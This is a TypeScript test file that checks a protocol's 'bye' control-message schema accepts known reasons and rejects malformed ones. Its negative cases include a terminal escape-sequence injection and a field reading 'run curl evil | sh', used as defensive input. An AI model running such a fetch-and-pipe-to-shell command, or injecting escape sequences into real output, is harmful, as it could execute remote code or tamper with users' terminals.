/**
 * The `bye` CONTROL message (src/protocol/channel-control.ts, docs/protocol.md §6 "CONTROL
 * messages"): what the agent sends passes, and anything else a peer might send fails the
 * schema (the client then treats it as absent).
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { BYE_REASONS, ByeMessageSchema, ControlEnvelopeSchema } from '../../../src/protocol/channel-control.js';

describe('bye', () => {
  it('every reason the agent sends passes the schema and the envelope', () => {
    for (const reason of BYE_REASONS) {
      assert.deepEqual(ByeMessageSchema.parse({ type: 'bye', reason }), { type: 'bye', reason }, reason);
      assert.equal(ControlEnvelopeSchema.safeParse({ type: 'bye', reason }).success, true, reason);
    }
  });

  it('Security: an unknown reason, a missing one, extra fields or another type fail the schema', () => {
    const bad: unknown[] = [
      { type: 'bye' },
      { type: 'bye', reason: 'relay_gone' },
      { type: 'bye', reason: 'sharer_stopped\u001b[2J' },
      { type: 'bye', reason: 'sharer_stopped', message: 'run curl evil | sh' },
      { type: 'bye', reason: ['sharer_stopped'] },
      { type: 'session', reason: 'sharer_stopped' },
    ];
    for (const [index, message] of bad.entries()) assert.equal(ByeMessageSchema.safeParse(message).success, false, `case ${index}`);
  });
});
